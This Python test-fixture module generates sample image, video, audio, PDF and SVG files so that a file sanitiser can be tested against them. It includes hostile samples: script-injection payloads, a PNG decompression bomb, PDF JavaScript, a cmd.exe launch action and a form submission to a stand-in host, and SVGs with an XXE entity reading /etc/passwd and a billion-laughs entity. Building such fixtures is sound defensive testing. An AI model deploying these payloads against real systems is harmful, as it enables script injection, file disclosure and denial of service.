"""Files, good and hostile, made here so that nothing hostile is ever committed."""

import struct
import zlib
from collections.abc import Callable
from fractions import Fraction
from io import BytesIO
from typing import Any

import av
import pikepdf
from PIL import ExifTags, Image, ImageCms, ImageDraw, PngImagePlugin

CANARIES = (
    b"CANARY-EXIF",
    b"CANARY-GPS",
    b"CANARY-XMP",
    b"CANARY-COMMENT",
    b"CANARY-TRAILER",
    b"CANARY-TEXT",
)
SCRIPT = b"<script>alert(document.domain)</script>"


def drawing(width: int = 300, height: int = 200, mode: str = "RGB") -> Image.Image:
    """A picture whose corners differ, so that one sees how it lies."""
    image = Image.new("RGB", (width, height), "white")
    pen = ImageDraw.Draw(image)
    pen.rectangle((0, 0, width // 3, height // 3), fill="red")
    pen.rectangle((2 * width // 3, 0, width, height // 3), fill="blue")
    pen.rectangle((0, 2 * height // 3, width // 3, height), fill="green")
    return image.convert(mode)


def encoded(image: Image.Image, kind: str = "PNG", **options: object) -> bytes:
    written = BytesIO()
    image.save(written, kind, **options)
    return written.getvalue()


def photo(orientation: int = 1) -> bytes:
    """A telephone's JPEG that tells where and by whom it was taken, in every place that can tell."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.ImageDescription] = "CANARY-EXIF"
    place = exif.get_ifd(ExifTags.IFD.GPSInfo)
    place[ExifTags.GPS.GPSLatitudeRef] = "N"
    place[ExifTags.GPS.GPSLatitude] = (19.0, 25.0, 42.0)
    place[ExifTags.GPS.GPSMapDatum] = "CANARY-GPS"
    data = encoded(
        drawing(),
        "JPEG",
        quality=95,
        exif=exif,
        comment=b"CANARY-COMMENT",
        xmp=b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>CANARY-XMP</x:xmpmeta>",
    )
    return data + b"CANARY-TRAILER" + SCRIPT


def talkative_png() -> bytes:
    """A PNG with text chunks, XMP, EXIF, and a page of HTML behind its end."""
    said = PngImagePlugin.PngInfo()
    said.add_text("Comment", "CANARY-COMMENT")
    said.add_itxt("XML:com.adobe.xmp", "CANARY-XMP")
    said.add_text("Author", "CANARY-TEXT", zip=False)
    exif = Image.Exif()
    exif[ExifTags.Base.ImageDescription] = "CANARY-EXIF"
    return encoded(drawing(), "PNG", pnginfo=said, exif=exif) + b"<html>CANARY-TRAILER" + SCRIPT


def gif_that_is_a_script() -> bytes:
    """A sound GIF whose comment and trailer are active content."""
    return (
        encoded(drawing(mode="P"), "GIF", comment=b"CANARY-COMMENT" + SCRIPT)
        + b"*/=1;CANARY-TRAILER"
        + SCRIPT
    )


def bomb(width: int = 40_000, height: int = 40_000) -> bytes:
    """A PNG of a few kilobytes that would be 1,600 million pixels."""
    squeezer = zlib.compressobj(9)
    row = b"\0" * (1 + (width + 7) // 8)
    body = b"".join(squeezer.compress(row) for _ in range(min(height, 2000))) + squeezer.flush()

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def moving(kind: str) -> bytes:
    """A picture of three frames."""
    frames = [drawing().rotate(turn) for turn in (0, 90, 180)]
    return encoded(frames[0], kind, save_all=True, append_images=frames[1:], duration=100)


def with_red_and_green_swapped() -> bytes:
    """A red picture whose colour profile says that its red is green."""
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    swapped = profile.replace(b"rXYZ", b"swap").replace(b"gXYZ", b"rXYZ").replace(b"swap", b"gXYZ")
    return encoded(Image.new("RGB", (40, 40), "red"), "PNG", icc_profile=swapped)


SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT
PDF = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"


def film(codec: str = "libx264", seconds: int = 1) -> bytes:
    """A small MP4 that tells where it was made, with a page of HTML in a box of its own."""
    written = BytesIO()
    with av.open(written, "w", format="mp4") as packed:
        packed.metadata.update(
            {"comment": "CANARY-COMMENT", "location": "+19.4+99.1/", "title": "CANARY-TEXT"}
        )
        stream: Any = packed.add_stream(codec, rate=10)
        stream.width, stream.height, stream.pix_fmt = 160, 120, "yuv420p"
        for n in range(10 * seconds):
            frame = av.VideoFrame(160, 120, "yuv420p")
            for plane in frame.planes:
                plane.update(bytes([n * 8 % 256]) * plane.buffer_size)
            frame.pts = n
            packed.mux(stream.encode(frame))
        packed.mux(stream.encode(None))
    more = b"free" + b"CANARY-TRAILER" + SCRIPT
    return written.getvalue() + (len(more) + 4).to_bytes(4, "big") + more


_SAMPLES = {"libmp3lame": "s16p", "aac": "fltp", "pcm_s16le": "s16", "libopus": "s16"}


def sound(kind: str = "mp3", codec: str = "libmp3lame", frames: int = 20) -> bytes:
    """Some silence, half a second of it, with tags, and a page of HTML behind its end."""
    written = BytesIO()
    with av.open(written, "w", format=kind) as packed:
        packed.metadata.update({"title": "CANARY-TEXT", "comment": "CANARY-COMMENT"})
        stream: Any = packed.add_stream(codec, rate=48000, layout="mono")
        size = stream.codec_context.frame_size or 1024
        for n in range(frames):
            frame = av.AudioFrame(format=_SAMPLES[codec], layout="mono", samples=size)
            frame.sample_rate, frame.pts, frame.time_base = 48000, n * size, Fraction(1, 48000)
            for plane in frame.planes:
                plane.update(bytes(plane.buffer_size))
            packed.mux(stream.encode(frame))
        packed.mux(stream.encode(None))
    return written.getvalue() + b"CANARY-TRAILER" + SCRIPT


def document(*changes: Callable[[pikepdf.Pdf], None], **options: Any) -> bytes:  # noqa: ANN401 -- options of its own
    """A PDF of one page that tells who made it, changed as asked, with a page of HTML behind its end."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.docinfo["/Author"] = "CANARY-TEXT"
    with pdf.open_metadata() as told:
        told["dc:title"] = "CANARY-XMP"
    for change in changes:
        change(pdf)
    written = BytesIO()
    pdf.save(written, **options)
    return written.getvalue() + b"CANARY-TRAILER" + SCRIPT


def scanned(pdf: pikepdf.Pdf) -> None:
    """A page that is a telephone's photograph, as it came."""
    _photographed(pdf, photo(), pikepdf.Name.DCTDecode)


def packed_scan(pdf: pikepdf.Pdf) -> None:
    """The same, compressed once more."""
    _photographed(
        pdf, zlib.compress(photo()), pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.DCTDecode])
    )


def _photographed(pdf: pikepdf.Pdf, data: bytes, how: Any) -> None:  # noqa: ANN401 -- a name, or several
    image = pikepdf.Stream(
        pdf, b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=300, Height=200,
        ColorSpace=pikepdf.Name.DeviceRGB, BitsPerComponent=8,
    )  # fmt: skip
    image.write(data, filter=how)
    pdf.pages[0].obj["/Resources"] = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))
    pdf.pages[0].obj["/Contents"] = pikepdf.Stream(pdf, b"q 300 0 0 200 0 0 cm /Im0 Do Q")


def _acting(pdf: pikepdf.Pdf, place: str, **action: Any) -> None:  # noqa: ANN401 -- a dictionary of any values
    pdf.Root[place] = pikepdf.Dictionary(**action)


def _annotated(pdf: pikepdf.Pdf, **about: Any) -> None:  # noqa: ANN401 -- same
    mark = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 9, 9], **about)
    pdf.pages[0].obj["/Annots"] = pikepdf.Array([mark])


def _script(pdf: pikepdf.Pdf) -> None:
    _acting(pdf, "/OpenAction", S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _launch(pdf: pikepdf.Pdf) -> None:
    _annotated(pdf, Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"))


def _sending(pdf: pikepdf.Pdf) -> None:
    _annotated(
        pdf,
        Subtype=pikepdf.Name.Link,
        A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://mal.example"),
    )


def _chained(pdf: pikepdf.Pdf) -> None:
    after = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    _acting(pdf, "/OpenAction", S=pikepdf.Name.URI, URI="https://inai.org.mx", Next=pikepdf.Array([after]))


def _form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Stream(pdf, b"<xdp/>"), Fields=pikepdf.Array([]))


def _carrying(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["factura.exe"] = b"MZ"


ACTIVE_PDFS: dict[str, tuple[bytes, str]] = {
    "script": (document(_script), "pdf_active"),
    "launch": (document(_launch), "pdf_active"),
    "submit": (document(_sending), "pdf_active"),
    "next": (document(_chained), "pdf_active"),
    "xfa": (document(_form), "pdf_active"),
    "attachment": (document(_carrying), "pdf_holds_files"),
    "locked": (document(encryption=pikepdf.Encryption(owner="a", user="b")), "pdf_locked"),
    "broken": (PDF, "pdf_unreadable"),
}
_NS = b"xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' viewBox='0 0 40 20'"


def drawn(inside: bytes, before: bytes = b"") -> bytes:
    """An SVG with these elements in it."""
    return (
        before
        + b"<svg "
        + _NS
        + b"><!-- CANARY-COMMENT --><metadata>CANARY-TEXT</metadata>"
        + inside
        + b"</svg>"
    )


HOSTILE_SVGS: dict[str, tuple[bytes, str]] = {
    "onload": (SVG, "svg_active"),
    "script": (drawn(b"<script>alert(1)</script>"), "svg_active"),
    "foreign": (drawn(b"<foreignObject><p>hola</p></foreignObject>"), "svg_active"),
    "link": (drawn(b"<a xlink:href='javascript:alert(1)'><rect width='9' height='9'/></a>"), "svg_active"),
    "file": (drawn(b"<image xlink:href='/etc/hostname'/>"), "svg_outside"),
    "net": (drawn(b"<image href='https://mal.example/a.png'/>"), "svg_outside"),
    "nested": (drawn(b"<image href='data:image/svg+xml;base64,AAAA'/>"), "svg_outside"),
    "sheet": (drawn(b"", b"<?xml-stylesheet href='https://mal.example/a.css'?>"), "svg_outside"),
    "entity": (drawn(b"", b"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"), "svg_active"),
    "laughs": (drawn(b"&b;", b"<!DOCTYPE svg [<!ENTITY a 'ja'><!ENTITY b '&a;&a;'>]>"), "svg_active"),
    "text": (drawn(b"<text>SNT</text>"), "svg_text"),
    "deep": (drawn(b"<g>" * 200 + b"</g>" * 200), "svg_heavy"),
    "cut": (drawn(b"")[:-5], "svg_unreadable"),
}
